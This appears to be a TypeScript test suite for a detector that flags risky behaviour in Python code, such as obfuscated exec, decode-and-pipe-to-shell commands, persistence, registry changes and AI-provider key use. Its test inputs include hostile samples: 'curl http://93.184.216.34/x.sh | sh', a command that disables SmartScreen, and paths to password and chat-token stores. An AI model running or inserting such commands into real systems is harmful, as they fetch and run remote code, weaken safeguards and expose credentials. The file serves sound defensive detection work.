import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyse, briefly } from '../../helpers/behaviour.ts';

const test = suite('behaviour, written differently');

function rules(text: string): readonly string[] {
  return analyse(text).findings.map((finding) => finding.rule);
}

function finds(rule: string, ...texts: readonly string[]): void {
  for (const text of texts) assert.ok(rules(text).includes(rule), `${rule} in: ${text}`);
}

test('functions that are reached through getattr', () => {
  finds(
    'PYS-OBF-001',
    'import base64, builtins\ne = getattr(builtins, "ex" + "ec")\ne(base64.b64decode("cHJpbnQoMSk="))',
    'g = getattr(__import__("base64"), "b64" + "decode")\nexec(g("cHJpbnQoMSk="))',
  );
  finds('PYS-PRIV-005', 'import os\ngetattr(os, "system")("pip install x")');
  assert.equal(rules('import os\nprint(getattr(os, "name"), getattr(settings, "debug", False))'), []);
});

test('commands that decode and run', () => {
  finds(
    'PYS-OBF-008',
    'import os\nos.system("echo aWQ= | base64 -d | bash")',
    'import subprocess\nsubprocess.run(["sh", "-c", "echo aWQ= | base64 --decode | sh"])',
  );
  assert.equal(rules('import os\nos.system("base64 -d in.txt > out.bin")'), []);
});

test('calls through a chain of names', () => {
  finds('PYS-NET-009', 'mail = outlook.CreateItem(0)\nmail.Send()');
  finds('PYS-PERSIST-011', 'import wmi\nc = wmi.WMI()\nc.__EventFilter.new(Name="x")');
  finds('PYS-PRIV-011', 'import ctypes\nk = ctypes.WinDLL("kernel32")\nk.WriteProcessMemory(1, 2, b, 3, 4)');
  assert.equal(rules('c.Order.new(name="x")'), []);
});

test('clients of cloud services by name', () => {
  finds(
    'PYS-DATA-015',
    'import boto3\ns3 = boto3.client("s3")',
    'import boto3\nboto3.resource(service_name="s3").Bucket("b").objects.all()',
    'from googleapiclient.discovery import build\nd = build("drive", "v3", credentials=c)',
  );
  finds('PYS-DATA-006', 'from googleapiclient.discovery import build\nbuild("gmail", "v1")');
  assert.equal(rules('import boto3\nboto3.client("sts").get_caller_identity()'), []);
});

test('tunnels by library, safeguards by registry, stores of browsers by path', () => {
  finds('PYS-NET-012', 'from pyngrok import ngrok\nngrok.connect(8501)');
  finds(
    'PYS-PRIV-007',
    'import os\nos.system("reg add HKLM\\\\X /v EnableSmartScreen /t REG_DWORD /d 0 /f")',
  );
  finds(
    'PYS-DATA-018',
    'for p in ("*.kdbx", "x"): collect(p)',
    'p = (ROAM, "FileZilla", "recentservers.xml")',
  );
  finds('PYS-DATA-018', 'p = base + "\\\\discord\\\\Local Storage\\\\leveldb"');
});

test('hosts of AI providers and of mail services are hosts as well', () => {
  finds(
    'PYS-NET-001',
    'import requests\nrequests.post("https://api.openai.com/v1/chat/completions", json={})',
    'import requests\nrequests.get("https://graph.microsoft.com/v1.0/users")',
  );
});

test('a listing that was sorted or cut is still a listing', () => {
  finds(
    'PYS-DESTR-002',
    'import os\nfor f in sorted(os.listdir("/srv"))[:-5]:\n    os.remove(os.path.join("/srv", f))',
  );
  assert.not.ok(rules('import os\nos.remove("a.txt")').includes('PYS-DESTR-002'));
});

test('curl is a use of the provider whose address it is given', () => {
  const { aiUsage } = analyse(
    'import os, subprocess\nsubprocess.run(["curl", "https://api.openai.com/v1/models", "-H", "Authorization: Bearer " + os.environ["OPENAI_API_KEY"]])',
  );
  assert.equal(
    aiUsage.map((usage) => [usage.provider, usage.access, usage.keySource, usage.keyName]),
    [['OpenAI', 'http', 'environment', 'OPENAI_API_KEY']],
  );
});

test('a key that a client is given by position', () => {
  const source = (text: string) => analyse(text).aiUsage.map((usage) => usage.keySource);
  assert.equal(source('import cohere\nco = cohere.Client("q7RtYw2ZpLx9Vb4NcM6kHd3SgJ8fTa5E")'), ['literal']);
  assert.equal(source('import cohere, os\nco = cohere.Client(os.environ["CO"])'), ['environment']);
});

test('a file that a path opens is data', () => {
  const { aiUsage } = analyse(
    'from pathlib import Path\nfrom groq import Groq\nfor p in Path("calls").glob("*.mp3"):\n  with p.open("rb") as f:\n    Groq().audio.transcriptions.create(model="whisper-large-v3", file=f)',
  );
  assert.equal(
    aiUsage.flatMap((usage) => usage.flows.map((flow) => flow.source)),
    ['file'],
  );
});

test('LlamaIndex without a model of its own asks OpenAI', () => {
  const index =
    'from llama_index.core import SimpleDirectoryReader, VectorStoreIndex\nd = SimpleDirectoryReader("docs").load_data()\n';
  const providers = (text: string) => analyse(text).aiUsage.map((usage) => usage.provider);
  assert.equal(providers(`${index}VectorStoreIndex.from_documents(d).as_query_engine().query("x")`), [
    'OpenAI',
  ]);
  assert.equal(providers(`${index}VectorStoreIndex.from_documents(d, embed_model=local)`), ['LlamaIndex']);
  assert.equal(providers('from llama_index.core import Document\nDocument(text="x")'), ['LlamaIndex']);
});

test('loaders of AI frameworks bring in what their name says', () => {
  const sources = (loader: string) =>
    analyse(
      `from langchain_community.document_loaders import ${loader}\nfrom langchain_openai import ChatOpenAI\nd = ${loader}("x").load()\nChatOpenAI().invoke(d[0].page_content)`,
    ).aiUsage.flatMap((usage) => usage.flows.map((flow) => flow.source));
  assert.equal(sources('PyPDFDirectoryLoader'), ['document']);
  assert.equal(sources('OutlookMessageLoader'), ['mail']);
  assert.equal(sources('S3FileLoader'), ['cloud storage']);
});

test('keys in URLs, web pages of assistants, files of a listing', () => {
  const url = 'https://generativelanguage.googleapis.com/v1beta/models/gemini-pro:generateContent?key=';
  const [http] = analyse(`import os, requests\nrequests.post(f"${url}{os.environ['G']}", json={})`).aiUsage;
  assert.equal([http?.provider, http?.keySource, http?.keyName], ['Google Gemini', 'environment', 'G']);
  const [page] = analyse('import webbrowser\nwebbrowser.open("https://chatgpt.com/")').aiUsage;
  assert.is(page?.provider, 'OpenAI ChatGPT (web)');
  const [upload] = analyse(
    'from google import genai\nfrom pathlib import Path\nc = genai.Client()\nfor p in Path("in").glob("*.pdf"):\n  c.files.upload(file=p)',
  ).aiUsage;
  assert.equal(
    upload?.flows.map((flow) => flow.source),
    ['document'],
  );
});

test('what commands do on other machines and to many files', () => {
  finds('PYS-NET-011', 'import subprocess\nsubprocess.run(["ssh", host, "uptime"])');
  finds('PYS-NET-011', 'import os\nos.system("rsync -a x nas01:/srv/")');
  assert.not.ok(rules('import os\nos.system("rsync -a x /srv/")').includes('PYS-NET-011'));
  finds('PYS-DESTR-003', 'import os\nos.system("find /var/log -mtime +9 -delete")');
  assert.equal(rules('import os\nos.system("find /var/log -mtime +9")'), []);
});

test('rights by files and registry keys', () => {
  finds('PYS-PRIV-008', 'open("/etc/sudoers.d/reports", "w").write(rule)');
  finds('PYS-PRIV-001', 'key = r"Software\\Classes\\ms-settings\\shell\\open\\command"');
});

test('a .pth file that goes where Python keeps its packages', () => {
  finds(
    'PYS-PERSIST-010',
    'import sysconfig\nfrom pathlib import Path\np = Path(sysconfig.get_paths()["purelib"]) / "x.pth"\np.write_text("import os")',
  );
  assert.equal(rules('from pathlib import Path\n(Path(out) / "resnet.pth").write_bytes(b)'), []);
});

test('names in full-width or mathematical letters are the names that Python takes them for', () => {
  const plain = briefly('import os\nos.system("curl http://93.184.216.34/x.sh | sh")');
  assert.ok(plain.includes('PYS-PRIV-009:2'), plain.join());
  assert.equal(briefly('import os\nｏｓ.system("curl http://93.184.216.34/x.sh | sh")'), plain);
  assert.equal(briefly('import ｏｓ\nos.𝘴𝘺𝘴𝘵𝘦𝘮("curl http://93.184.216.34/x.sh | sh")'), plain);
});

test.run();
